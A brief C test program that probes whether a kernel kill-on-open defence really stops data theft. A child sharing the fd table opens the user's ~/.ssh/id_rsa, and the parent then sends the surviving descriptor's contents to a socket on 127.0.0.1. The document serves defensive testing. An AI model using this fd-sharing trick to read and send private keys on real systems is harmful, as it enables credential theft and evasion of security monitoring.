/* After a kill in the kernel, does the rest of the job live on? A child sharing the fd table
 * (CLONE_FILES) opens the key and is killed at the open; the parent waits for its death,
 * sleeps DELAY_MS, and only then sends the key from the surviving fd to 127.0.0.1:PORT.
 * Usage: rest_survives PORT DELAY_MS */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
static char path[4096], stack[65536];
static int opener(void *u) { open(path, O_RDONLY); return 0; }
int main(int argc, char **argv)
{
    snprintf(path, sizeof(path), "%s/.ssh/id_rsa", getenv("HOME"));
    int next = dup(0); close(next);
    pid_t child = clone(opener, stack + sizeof(stack), CLONE_FILES | SIGCHLD, NULL);
    int st; waitpid(child, &st, 0);
    struct timespec d = {atoi(argv[2]) / 1000, (atoi(argv[2]) % 1000) * 1000000L}; nanosleep(&d, NULL);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    connect(s, (void *)&a, sizeof(a));
    ssize_t n = sendfile(s, next, NULL, 4096);
    fprintf(stderr, "child %s; sent %zd after %s ms\n", WIFSIGNALED(st) ? "killed" : "exited", n, argv[2]);
    return 0;
}
